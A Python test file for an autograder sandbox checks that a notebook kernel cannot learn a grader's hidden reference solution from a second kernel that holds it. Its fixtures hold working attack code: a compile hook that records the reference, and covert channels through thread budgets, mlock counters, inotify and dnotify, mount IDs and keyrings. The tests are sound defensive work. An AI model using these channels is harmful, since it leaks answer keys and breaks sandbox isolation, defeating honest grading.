"""Nothing of the notebook's kernel runs beside a kernel that holds a reference
(`autograder/kernel/still.py`, `lending.py`).

The two kernels of a submission share its pids and CPU budgets, so one can tell the other what
it knows by what it takes of them: red-team round r37 sent the reference's source that way, from
the lending kernel to the notebook's kernel, and out in a later step's report. Here the lending
kernel, once it holds the reference, takes most of the pids budget and keeps it; a thread of the
notebook's kernel, started before the lent step, tries all along to start a few threads. It
never finds the budget taken: it is stopped while the reference is held, and the kernel that
held it is gone before it runs again.
"""


import platform

import pytest
from test_envelope import needs_groups, needs_sandbox
from test_judge import notebook, printed, processes_left

from autograder.judge import judge_notebook

WRONG_SOFTMAX_RECORDING_THE_REFERENCE = """\
import builtins

import numpy as np

SEEN = []
_compile = builtins.compile


def _recording(source, *args, **kwargs):
    if isinstance(source, str) and "def softmax" in source:
        SEEN.append(source)  # only where the reference is lent
    return _compile(source, *args, **kwargs)


builtins.compile = _recording


def softmax(x, axis=-1):
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return e / e.sum(axis=0, keepdims=True)
"""

LISTENER = """\
import threading
import time

SQUEEZED = [0]


def _listen():
    while True:
        release, started = threading.Event(), []
        try:
            for _ in range(30):
                thread = threading.Thread(target=release.wait, daemon=True)
                thread.start()
                started.append(thread)
        except RuntimeError:  # the budget is taken: what a receiver decodes
            SQUEEZED[0] += 1
        release.set()
        for thread in started:
            thread.join()
        time.sleep(0.01)


threading.Thread(target=_listen, daemon=True).start()
"""

WEIGHTS_THAT_TAKE_THE_BUDGET = """\
import threading

TAKEN = []


def attention_weights(scores):
    if SEEN and not TAKEN:  # in a kernel holding the reference: take the budget, and keep it
        forever = threading.Event()
        try:
            while len(TAKEN) < 90:
                thread = threading.Thread(target=forever.wait, daemon=True)
                thread.start()
                TAKEN.append(thread)
        except RuntimeError:
            pass
    return softmax(scores)
"""


def _lent_then_read(tmp_path, reader, sender, *after):
    """A notebook whose softmax loses points and records the reference lent in its place
    (`WRONG_SOFTMAX_RECORDING_THE_REFERENCE`), judged: `reader` (a cell) readies the notebook's kernel,
    `sender` defines an attention_weights that sends out what it saw of the reference from the lending
    kernel, and the cells `after` read in the notebook's kernel what reached it (printed from cell 5 on)."""
    return judge_notebook(notebook(tmp_path / "nb.ipynb", [
        WRONG_SOFTMAX_RECORDING_THE_REFERENCE, ("grade", "softmax"), reader,
        sender, ("grade", "attention_weights"), *after]))


@needs_sandbox
@needs_groups
def test_the_notebooks_kernel_never_runs_while_another_kernel_holds_a_reference(tmp_path):
    judged = _lent_then_read(tmp_path, LISTENER, WEIGHTS_THAT_TAKE_THE_BUDGET,
                             "time.sleep(1.5)", "print('SQUEEZED', SQUEEZED[0], 'SEEN', len(SEEN))")
    assert judged.steps["softmax"].fraction < 1
    assert printed(judged, 6) == "SQUEEZED 0 SEEN 0\n"
    assert processes_left() == []


COUNTER_READER = """\
import re


def _mlocked():
    with open('/proc/vmstat') as handle:
        found = re.search(r'unevictable_pgs_mlocked (\\d+)', handle.read())
    return int(found.group(1)) if found else -1


BEFORE = _mlocked()
"""

WEIGHTS_THAT_COUNT_OUT_THE_REFERENCE = """\
import ctypes
import mmap

SENT = []


def _count(value):  # the machine's count of pages locked goes up by 64 x value
    libc = ctypes.CDLL(None, use_errno=True)
    buffer = mmap.mmap(-1, 2048 * 4096)
    address = ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(buffer)))
    pages = 64 * value
    while pages:
        chunk = min(pages, 2048)
        if libc.mlock(address, ctypes.c_size_t(chunk * 4096)) != 0:
            break
        libc.munlock(address, ctypes.c_size_t(chunk * 4096))
        pages -= chunk


def attention_weights(scores):
    if SEEN and not SENT:  # in a kernel holding the reference: two of its characters, 16 bits
        at = SEEN[0].index('return') + 7  # ('def ' 'softmax' is not written out: this cell would be SEEN)
        SENT.append(SEEN[0][at:at + 2])
        _count(ord(SENT[0][0]) * 256 + ord(SENT[0][1]))
    return softmax(scores)
"""


@needs_sandbox
@needs_groups
def test_the_machines_counters_carry_nothing_from_a_kernel_that_held_a_reference(tmp_path):
    """Red-teamed in round r39: /proc/vmstat counts, for the whole machine, events that nothing
    else here makes often (pages locked by mlock, ...); the lending kernel, holding the reference,
    raised a count by 64 x a number of its choosing and the notebook's kernel read it afterwards:
    16 bits of the reference's source (two characters) in one lending step, exactly, in under a
    second. The kernel's /proc shows none of the machine's event counters."""
    judged = _lent_then_read(tmp_path, COUNTER_READER, WEIGHTS_THAT_COUNT_OUT_THE_REFERENCE,
                             "v = round((_mlocked() - BEFORE) / 64)",
                             "print('COUNTED', _mlocked() >= 0, v, repr(chr(v // 256) + chr(v % 256)), 'SEEN', len(SEEN))")
    assert judged.steps["softmax"].fraction < 1
    assert printed(judged, 6) == "COUNTED False 0 '\\x00\\x00' SEEN 0\n"
    assert processes_left() == []


# Two ways to be told by the operating system that another process read a file both can read, each
# with one file (or folder) of the kernel image for a 0, one for a 1, and one between bits (repeats
# are merged). What is told waits in a queue while the notebook's kernel is stopped.
WATCH_BY_INOTIFY = """\
import ctypes
import os
import struct

_libc = ctypes.CDLL(None, use_errno=True)
_PLACES = [os.path.join(os.path.dirname(os.__file__), name) for name in ("this.py", "antigravity.py", "tabnanny.py")]
_WATCH = _libc.inotify_init1(os.O_NONBLOCK)
_IDS = [_libc.inotify_add_watch(_WATCH, path.encode(), 0x20) for path in _PLACES]  # IN_OPEN


def _send(which):
    os.close(os.open(_PLACES[which], os.O_RDONLY))


def _told():
    data, told = b"", []
    while _WATCH >= 0:
        try:
            data += os.read(_WATCH, 65536)
        except BlockingIOError:
            break
    while data:
        watch, _, _, size = struct.unpack("iIII", data[:16])
        told.append(_IDS.index(watch))
        data = data[16 + size:]
    return told
"""

WATCH_BY_DNOTIFY = """\
import ctypes
import fcntl
import os
import signal
import struct
import threading

_libc = ctypes.CDLL(None, use_errno=True)
_PLACES = [os.path.join(os.path.dirname(os.__file__), name) for name in ("wsgiref", "xmlrpc", "dbm")]
_FILES = ["simple_server.py", "client.py", "dumb.py"]
_SIGNAL, _FDS, _HEARD = signal.SIGRTMIN + 3, [], []


def _listen():  # each access in a folder is a signal to this thread, read in order from a signalfd
    signal.pthread_sigmask(signal.SIG_BLOCK, {_SIGNAL})
    mask = (ctypes.c_uint64 * 16)(1 << (_SIGNAL - 1))
    told = _libc.signalfd(-1, mask, 0)
    try:
        for path in _PLACES:
            _FDS.append(os.open(path, os.O_RDONLY | os.O_DIRECTORY))
            fcntl.fcntl(_FDS[-1], 10, _SIGNAL)  # F_SETSIG
            fcntl.fcntl(_FDS[-1], 1026, 0x1 | 0x80000000)  # F_NOTIFY: DN_ACCESS, DN_MULTISHOT
            fcntl.fcntl(_FDS[-1], 15, struct.pack("ii", 0, threading.get_native_id()))  # F_SETOWN_EX
    except OSError:
        return
    buffer = ctypes.create_string_buffer(128 * 64)
    while True:
        size = _libc.read(told, buffer, len(buffer))
        _HEARD.extend(struct.unpack_from("i", buffer.raw, at + 20)[0] for at in range(0, max(size, 0), 128))


threading.Thread(target=_listen, daemon=True).start()


def _send(which):
    with open(os.path.join(_PLACES[which], _FILES[which]), "rb") as handle:
        handle.read(1)


def _told():
    return [_FDS.index(fd) for fd in _HEARD if fd in _FDS]
"""

WEIGHTS_THAT_READ_OUT_THE_REFERENCE = """\
SENT = []


def attention_weights(scores):
    if SEEN and not SENT:  # in a kernel holding the reference: 40 characters, a file opened a bit
        at = SEEN[0].index('return') + 7
        SENT.append(SEEN[0][at:at + 40])
        for bit in "".join(format(byte, "08b") for byte in SENT[0].encode()):
            _send(int(bit))
            _send(2)
    return softmax(scores)


def _heard():
    bits = "".join(str(which) for which in _told() if which < 2)
    return bytes(int(bits[at:at + 8], 2) for at in range(0, len(bits) - 7, 8)).decode("latin-1")
"""


@needs_sandbox
@needs_groups
@pytest.mark.parametrize("watch", [WATCH_BY_INOTIFY, WATCH_BY_DNOTIFY], ids=["inotify", "dnotify"])
def test_no_kernel_is_told_what_another_read(tmp_path, watch):
    """Red-teamed in round r44: the notebook's kernel watched three files of the kernel image (or
    their folders), the lending kernel, holding the reference, opened one of two for each bit of
    it, and the notebook's kernel read what it was told once it ran again: 40 characters of 40,
    either way. No kernel may ask to be told (`zygote.DENIED_CALLS`)."""
    judged = _lent_then_read(tmp_path, watch, WEIGHTS_THAT_READ_OUT_THE_REFERENCE,
                             "import time\ntime.sleep(0.3)", "print('HEARD', repr(_heard()), 'SEEN', len(SEEN))")
    assert judged.steps["softmax"].fraction < 1
    assert judged.steps["attention_weights"].fraction == 1
    assert printed(judged, 6) == "HEARD '' SEEN 0\n"
    assert processes_left() == []


MOUNT_COUNTER = """\
import ctypes
import os
import struct

_libc = ctypes.CDLL(None, use_errno=True)


def _mounted(mounts):  # in a child, in namespaces of its own: `mounts` mounts, and the last one's number
    uid, (read, write) = os.getuid(), os.pipe()
    child = os.fork()
    if child == 0:
        try:
            if _libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
                with open("/proc/self/uid_map", "w") as handle:
                    handle.write(f"{uid} {uid} 1")
                for _ in range(mounts):
                    _libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
                found = ctypes.create_string_buffer(256)
                if _libc.statx(-100, b"/tmp", 0, 0x4000, found) == 0:  # STATX_MNT_ID_UNIQUE
                    os.write(write, found.raw[144:152])
        finally:
            os._exit(0)
    os.close(write)
    os.waitpid(child, 0)
    number = os.read(read, 8)
    os.close(read)
    return struct.unpack("Q", number)[0] if len(number) == 8 else -1


BEFORE = _mounted(1)
"""

WEIGHTS_THAT_MOUNT_OUT_THE_REFERENCE = """\
SENT = []


def attention_weights(scores):
    if SEEN and not SENT:  # in a kernel holding the reference: 64 mounts for each unit of a character
        SENT.append(SEEN[0][SEEN[0].index('return') + 7])
        _mounted(64 * ord(SENT[0]))
    return softmax(scores)
"""


@needs_sandbox
@needs_groups
def test_no_kernel_makes_a_mount_another_can_count(tmp_path):
    """Red-teamed in round r44: every mount made on the machine takes the next number of one count,
    which statx shows of any mount; in a user namespace of its own a kernel may mount. The lending
    kernel, holding the reference, made 64 mounts for each unit of a character of it, and the
    notebook's kernel read the count before and after: 64 x 101 + 137 or 138 ('e'). No kernel
    may have a namespace of its own (`zygote.DENIED_CALLS`), so it makes no mount."""
    judged = _lent_then_read(tmp_path, MOUNT_COUNTER, WEIGHTS_THAT_MOUNT_OUT_THE_REFERENCE,
                             "print('MOUNTS', BEFORE, _mounted(1), 'SEEN', len(SEEN))")
    assert judged.steps["attention_weights"].fraction == 1
    assert printed(judged, 5) == "MOUNTS -1 -1 SEEN 0\n"
    assert processes_left() == []


KEY_COUNTER = """\
import ctypes
import re

_libc = ctypes.CDLL(None, use_errno=True)


def _keys():  # the keys this user holds on the whole machine: every kernel of the submission is that user
    found = re.search(r"(\\d+)/\\d+ ", open("/proc/key-users").read())
    return int(found.group(1)) if found else 0


BEFORE = _keys()
"""

WEIGHTS_THAT_KEY_OUT_THE_REFERENCE = """\
SENT = []


def attention_weights(scores):
    if SEEN and not SENT:  # in a kernel holding the reference: a key for each unit of a character
        SENT.append(SEEN[0][SEEN[0].index('return') + 7])
        for number in range(ord(SENT[0])):  # add_key(2) into the user's keyring (-4)
            _libc.syscall(248, b"user", f"k{number}".encode(), b"x", 1, ctypes.c_int(-4))
    return softmax(scores)
"""


@needs_sandbox
@needs_groups
def test_no_kernel_holds_a_key_another_can_count(tmp_path):
    """Red-teamed in round r44: the machine counts each user's keys (/proc/key-users), and the two
    kernels of a submission are one user. The lending kernel, holding the reference, added a key for
    each unit of a character of it; the notebook's kernel, let go, read 104 keys before the kernel's
    collector took them ('e' and 3). No kernel may use the keyrings (`zygote.DENIED_CALLS`)."""
    if platform.machine() != "x86_64":
        pytest.skip("the attack calls add_key by its x86_64 number")
    judged = _lent_then_read(tmp_path, KEY_COUNTER, WEIGHTS_THAT_KEY_OUT_THE_REFERENCE,
                             "print('KEYS', _keys() - BEFORE, 'SEEN', len(SEEN))")
    assert judged.steps["attention_weights"].fraction == 1
    assert printed(judged, 5) == "KEYS 0 SEEN 0\n"
    assert processes_left() == []
